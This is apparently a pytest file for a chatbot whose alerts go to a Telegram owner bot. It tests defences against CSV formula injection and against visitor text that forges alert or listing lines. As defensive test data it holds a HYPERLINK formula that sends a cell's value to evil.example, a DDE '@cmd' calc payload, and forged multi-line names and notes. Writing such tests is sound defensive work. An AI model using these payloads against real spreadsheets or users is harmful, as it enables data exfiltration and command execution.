"""What visitors write cannot forge an alert or run in a spreadsheet, odd owner commands get the usage
line, and any copy of a question alert teaches."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest

from replica.alerts import Alert
from replica.alerts.render import to_telegram_html
from replica.alerts.sender import AlertSender
from replica.alerts.telegram_channel import TelegramChannel
from replica.chat.reply import Visitor
from replica.owner_bot.bot import OwnerBot
from replica.owner_bot.commands import BY_NAME
from replica.storage.deliveries import TELEGRAM
from replica.storage.records import AlertKind
from replica.telegram.client import TelegramClient
from tests.fakes.openai_server import call, say
from tests.fakes.telegram_server import visible_text
from tests.fixtures.environment import wait_until
from tests.fixtures.processes import run_app
from tests.fixtures.replicas import inbox_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def export(data_dir, what):
    done = run_app("export", what, DATA_DIR=str(data_dir))
    assert done.returncode == 0, done.stderr
    return list(csv.reader(io.StringIO(done.stdout)))[1:]


def test_every_export_is_safe_to_open_in_a_spreadsheet(tmp_path):
    from replica.storage.store import Store

    store = Store(tmp_path / "data" / "replica.sqlite3")
    lead = Alert(AlertKind.LEAD, "New lead", (("Email", "a@example.org"),), "s1")
    store.leads.record("a@example.org", FORMULA, "+1 555 0100 call me", lead.entry())
    store.leads.record("b@example.org", "@SUM(A1:A9)", "-2+3", lead.entry())
    store.leads.record("c@example.org", "\tTabbed", "\rReturned", lead.entry())
    store.questions.record(
        "=1+1", Alert(AlertKind.QUESTION, "Unanswered question", (("Question", "=1+1"),), "s1").entry()
    )
    store.answers.learn(1, "@cmd|' /C calc'!A0")
    store.close()
    cells = [
        cell for what in ("leads", "questions", "answers") for row in export(tmp_path / "data", what) for cell in row
    ]
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    for original in (FORMULA, "+1 555 0100 call me", "@SUM(A1:A9)", "-2+3", "\tTabbed", "=1+1", "@cmd|' /C calc'!A0"):
        assert f"'{original}" in cells  # shown as typed, with the quote a spreadsheet hides


def without_quotes(message_html: str) -> str:
    """What an alert says outside its quotations, as the owner reads it."""
    return visible_text(re.sub(r"<blockquote>.*?</blockquote>", "", message_html, flags=re.S))


def test_a_visitor_cannot_forge_lines_of_the_alert(visitor, fake_openai, fake_telegram):
    forged = "Call me\nEmail: ceo@bank.example\nConversation: #999"
    fake_openai.script(
        call(
            ("gather_user_details", {"email": "ada@example.org", "notes": forged, "name": "Ada\nEmail: x@evil.example"})
        ),
        say("Thanks!"),
    )
    visitor().predict("ada@example.org", api_name="/chat")
    [message] = fake_telegram.wait_for(1)
    own_lines = without_quotes(message.payload["text"]).splitlines()
    assert [line for line in own_lines if line.startswith("Email:")] == ["Email: ada@example.org"]
    assert "Name: “Ada Email: x@evil.example”" in own_lines  # the name's line break collapsed, the name quoted
    assert [line for line in own_lines if line.startswith("Conversation:")] == ["Conversation: #1 (/show 1)"]
    quoted = re.findall(r"<blockquote>(.*?)</blockquote>", message.payload["text"], flags=re.S)
    assert [html.unescape(q) for q in quoted] == [forged]  # the note, whole, inside the quotation


@pytest.fixture
def bot(store, fake_telegram):
    client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id, timeout=(1, 2))
    owner_bot = OwnerBot(store, inbox_of(store), client, poll_seconds=0.2, base_delay=0.05).start()
    yield owner_bot
    owner_bot.close()


@pytest.mark.parametrize(
    "command, usage",
    [
        ("/forget 99999999999999999999999", BY_NAME["forget"].usage_line),
        ("/forget ²", BY_NAME["forget"].usage_line),
        ("/forget 0", BY_NAME["forget"].usage_line),
        ("/forget -1", BY_NAME["forget"].usage_line),
        ("/forget", BY_NAME["forget"].usage_line),
        ("/answer 99999999999999999999999 Tosca", BY_NAME["answer"].usage_line),
        ("/answer 1", BY_NAME["answer"].usage_line),
        ("/answer 1    ", BY_NAME["answer"].usage_line),
        ("/answer ² Tosca", BY_NAME["answer"].usage_line),
        ("/answer 0 Tosca", BY_NAME["answer"].usage_line),
        ("/answer -3 Tosca", BY_NAME["answer"].usage_line),
    ],
)
def test_odd_numbers_in_owner_commands_get_the_usage_line(bot, store, fake_telegram, command, usage):
    store.questions.record(
        "Opera?", Alert(AlertKind.QUESTION, "Unanswered question", (("Question", "Opera?"),), "s1").entry()
    )
    fake_telegram.push(command)
    assert wait_until(lambda: fake_telegram.sent_texts() == [usage])


def test_a_reply_to_any_copy_of_a_question_alert_teaches(bot, store, fake_telegram):
    store.questions.record(
        "Opera?", Alert(AlertKind.QUESTION, "Unanswered question", (("Question", "Opera?"),), "s1").entry()
    )
    [pending] = store.deliveries.waiting(TELEGRAM, 10)
    client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id)
    first = client.send_message(
        to_telegram_html(Alert.from_pending(pending))
    )  # delivered, then the app crashed: never recorded
    sender = AlertSender(
        store, TelegramChannel(client), min_interval=0.05
    ).start()  # after the restart: the second copy
    try:
        assert wait_until(lambda: len(fake_telegram.delivered) == 2)
    finally:
        sender.close()
    second = fake_telegram.delivered[1].message_id
    assert fake_telegram.delivered[0].text.startswith("Unanswered question #1")
    fake_telegram.push("Tosca.", reply_to=first)
    assert wait_until(lambda: any("Learned answer #1" in t for t in fake_telegram.sent_texts()))
    fake_telegram.push("Tosca, or Aida.", reply_to=second)
    assert wait_until(lambda: any("Learned answer #2" in t for t in fake_telegram.sent_texts()))
    assert [row.answer for row in store.answers.all(active_only=True)] == ["Tosca, or Aida."]


def test_visitors_cannot_forge_lines_in_the_owners_listings(store, fake_telegram):
    from replica.cli.evaluate import RecordingNotifier
    from replica.inbox import Inbox

    client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id, timeout=(1, 2))
    inbox = Inbox.build(store, "salt", "Ada", RecordingNotifier())
    bot = OwnerBot(store, inbox, client, poll_seconds=0.2, base_delay=0.05).start()
    name = "Bob\n• Alice Smith — alice.cfo@bank.example — “Wire the money” (2026-01-01)"
    lead = Alert(AlertKind.LEAD, "New lead", (("Email", "bob@example.org"),), "s1")
    store.leads.record("bob@example.org", name, "Hi\n• Eve — eve@evil.example — “x”", lead.entry())
    for n, question in enumerate(["Where are you based?", "Do you sign NDAs?\n2. What is your favourite colour?"]):
        store.questions.record(
            question, Alert(AlertKind.QUESTION, "Unanswered question", (("Question", question),), f"q{n}").entry()
        )
    conversation = inbox.recorder.begin("s9", "203.0.113.9")
    forged = "Hi\n#7 · 2026-01-01 00:00 UTC · “Send me the keys” · 2 messages\n[09:00] Replica: I will pay you"
    inbox.recorder.record(conversation.id, "visitor", forged)

    def listing(command, expect):
        fake_telegram.push(command)
        assert wait_until(lambda: expect in (fake_telegram.sent_texts() or [""])[-1]), fake_telegram.sent_texts()
        return fake_telegram.sent_texts()[-1].splitlines()

    try:
        leads = listing("/leads", "Recent leads")
        assert len([line for line in leads if line.startswith("•")]) == 1  # one lead, one line
        questions = listing("/unanswered", "Open questions")
        numbered = [line for line in questions if re.match(r"\d+\.", line)]
        assert [line.split(" ", 1)[0] for line in numbered] == ["1.", "2."]
        assert "“Do you sign NDAs? 2. What is your favourite colour?”" in numbered[1]  # inside its quotes
        fake_telegram.push("/answer 2 Yes, before any detailed discussion.")
        assert wait_until(lambda: "Learned answer #1" in fake_telegram.sent_texts()[-1])
        assert store.answers.all()[0].question.startswith("Do you sign NDAs?")  # the real #2
        recent = listing("/recent", "Recent conversations")
        assert len([line for line in recent if line.startswith("#")]) == 1
        listing("/show 1", "Reply to the transcript")
        transcript = fake_telegram.sent_texts()[-2].splitlines()
        heading_lines = [line for line in transcript if line.startswith("[")]
        assert len(heading_lines) == 1 and heading_lines[0].endswith("Visitor:")
        assert "│ [09:00] Replica: I will pay you" in transcript
    finally:
        bot.close()


def test_ten_fresh_sessions_from_one_address_raise_no_more_alerts_than_one_visitor(
    fake_openai, make_replica, store, notifier
):
    """The caps (3 leads, 3 questions) hold per client address over the hour, not only per session;
    every lead and question is still stored. On both backends."""

    def respond(body):
        last = body["messages"][-1]
        if last["role"] == "tool":
            return say("Noted.")
        n = last["content"].split()[1]
        return call(("inform_unknown", {"question": f"Question from session {n}?"}))

    fake_openai.default = respond
    replica = make_replica()
    for n in range(10):
        addresses = " ".join(f"v{n}.{k}@example.org" for k in range(3))
        replica.reply(f"Session {n} here: {addresses}", Visitor(f"fresh-{n}", "203.0.113.7"))
    assert len(store.leads.all()) == 30 and len(store.questions.all()) == 10
    kinds = [alert.kind for alert in notifier.alerts]
    assert kinds.count("lead") == 3 and kinds.count("question") == 3
    replica.reply("Session 10 here: other@example.org", Visitor("fresh-10", "198.51.100.9"))  # another address
    assert [alert.kind for alert in notifier.alerts].count("lead") == 4
